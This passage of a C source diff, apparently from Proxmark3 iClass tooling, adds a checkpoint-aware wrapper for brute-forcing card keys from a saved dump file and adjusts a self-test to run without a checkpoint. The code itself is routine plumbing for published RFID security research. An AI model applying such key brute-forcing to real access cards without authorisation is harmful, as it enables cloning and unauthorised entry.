+	snprintf(checkpoint_file, sizeof(checkpoint_file), "%s", chosen);
+	free(dump);
+	return errors;
+}
+
+/**
+ * Perform a bruteforce against a file which has been saved by pm3
+ *
+ * @brief bruteforceFile
+ * @param filename
+ * @return
+ */
+int bruteforceFile(const char *filename, uint16_t keytable[])
+{
+	return bruteforceFileCheckpoint(filename, keytable, true);
 }
 /**
  *
@@ -579,7 +1268,8 @@ int _testBruteforce()
 		uint16_t keytable[128] = {0};
 		//save some time...
 		startvalue = 0x7B0000;
-		errors |= bruteforceFile("iclass_dump.bin",keytable);
+		// from the start and without a checkpoint, a real one may be there
+		errors |= bruteforceFileCheckpoint("iclass_dump.bin", keytable, false);
 	}
 	return errors;
 }